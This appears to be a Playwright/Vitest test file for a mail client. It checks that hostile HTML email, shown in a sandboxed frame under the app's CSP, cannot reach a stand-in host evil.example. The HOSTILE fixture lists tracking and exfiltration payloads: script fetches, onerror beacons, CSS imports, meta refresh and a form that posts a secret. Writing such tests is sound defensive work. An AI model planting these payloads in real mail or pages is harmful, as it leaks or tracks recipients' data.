// Hostile HTML mail in a real Chromium, framed exactly as the message view frames it: nothing may reach the network.
// The "remote" host resolves to a local sink that records every connection: Playwright's own request
// events miss requests of a sandboxed (process-isolated) frame, so only the sink's log is evidence.
import { readFile } from 'node:fs/promises';
import { createServer as createHttpServer, type Server } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildMailSrcdoc, MAIL_FRAME_SANDBOX } from '../../renderer/mail-frame.js';
import { CHROMIUM } from '../e2e/browser.js';

/** Every way we know for HTML to fetch, run or navigate; each path names its trick. */
const HOSTILE = `
<p id="text">Hello Bob</p>
<img src="http://evil.example/img">
<img srcset="http://evil.example/srcset 1x">
<body background="http://evil.example/body-background">
<svg><image href="http://evil.example/svg-image"/></svg>
<script src="http://evil.example/script-src"></script>
<script>new Image().src = 'http://evil.example/inline-script'; fetch('http://evil.example/fetch');</script>
<img src="x" onerror="new Image().src='http://evil.example/onerror'">
<link rel="stylesheet" href="http://evil.example/stylesheet">
<link rel="prefetch" href="http://evil.example/prefetch">
<style>@import url(http://evil.example/css-import); p { background: url(http://evil.example/css-background); }</style>
<iframe src="http://evil.example/iframe"></iframe>
<object data="http://evil.example/object"></object>
<video poster="http://evil.example/poster"></video>
<meta http-equiv="refresh" content="0;url=http://evil.example/meta-refresh">
<form action="http://evil.example/form" method="post"><input name="q" value="secret"><button id="submit">Submit</button></form>
<a id="link" href="http://evil.example/link">a link</a>
`;

let browser: Browser;
let page: Server;
let sink: TcpServer;
let origin: string;
let appCsp: string;
/** What the page server answers: set per test. */
let parentPage = '';
/** One entry per connection to the "remote" host: the HTTP request line, or "tls" for a TLS handshake. */
let sinkLog: string[] = [];

beforeAll(async () => {
  const indexHtml = await readFile(new URL('../../renderer/index.html', import.meta.url), 'utf8');
  appCsp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(indexHtml)?.[1] ?? '';
  expect(appCsp).toContain("default-src 'self'");
  page = createHttpServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(parentPage);
  });
  sink = createTcpServer((socket) => {
    socket.once('data', (data) => {
      sinkLog.push(data[0] === 0x16 ? 'tls' : data.toString('latin1').split('\r\n')[0] ?? '');
      socket.end('HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(page.address() as AddressInfo).port}`;
  const sinkPort = (sink.address() as AddressInfo).port;
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', `--host-resolver-rules=MAP evil.example 127.0.0.1:${sinkPort}`],
  });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => page?.close(resolve));
  await new Promise((resolve) => sink?.close(resolve));
});

const attr = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

/** Loads the framed mail, clicks its submit button and its link, waits, and returns what reached the "remote" host. */
async function remoteHits(body: string, options: { appCsp: boolean }): Promise<string[]> {
  const csp = options.appCsp ? `<meta http-equiv="Content-Security-Policy" content="${attr(appCsp)}">` : '';
  parentPage = `<!doctype html><html><head>${csp}</head><body>${body}</body></html>`;
  sinkLog = [];
  const context = await browser.newContext();
  try {
    const tab = await context.newPage();
    await tab.goto(`${origin}/`);
    const mail = tab.frameLocator('iframe[title="Message content"]');
    await mail.locator('#text').waitFor({ timeout: 5000 }).catch(() => undefined);
    await mail.locator('#submit').click({ timeout: 2000 }).catch(() => undefined);
    await mail.locator('#link').click({ timeout: 2000 }).catch(() => undefined);
    await tab.waitForTimeout(1500);
  } finally {
    await context.close();
  }
  return [...sinkLog].sort();
}

const mailFrame = (html: string, remoteContent: boolean) =>
  `<iframe title="Message content" sandbox="${MAIL_FRAME_SANDBOX}" srcdoc="${attr(buildMailSrcdoc(html, { remoteContent }))}"></iframe>`;

describe('hostile HTML mail in Chromium', { timeout: 60_000 }, () => {
  it('reaches no remote host inside the app: no images, scripts, styles, frames, prefetch, form posts, link or refresh navigation', async () => {
    expect(await remoteHits(mailFrame(HOSTILE, false), { appCsp: true })).toEqual([]);
  });

  it('fetches nothing on its own when the frame is its only defence (no app CSP around it); only a clicked link navigates the frame', async () => {
    expect(await remoteHits(mailFrame(HOSTILE, false), { appCsp: false })).toEqual(['GET /link HTTP/1.1']);
  });

  it('would leak without the frame: the sink sees the same mail when it is not sandboxed (control)', async () => {
    const hits = await remoteHits(`<iframe title="Message content" srcdoc="${attr(HOSTILE)}"></iframe>`, { appCsp: false });
    expect(hits).toEqual(expect.arrayContaining(['GET /img HTTP/1.1', 'GET /inline-script HTTP/1.1']));
  });

  it('with remote content loaded, fetches https images and nothing else: no http image, no script, no form post', async () => {
    expect(await remoteHits(mailFrame(HOSTILE, true), { appCsp: false })).toEqual(['GET /link HTTP/1.1']);
    expect(await remoteHits(mailFrame('<p id="text">hi</p><img src="https://evil.example/img">', true), { appCsp: false })).toContain('tls');
    expect(await remoteHits(mailFrame('<p id="text">hi</p><img src="https://evil.example/img">', false), { appCsp: false })).toEqual([]);
  });
});
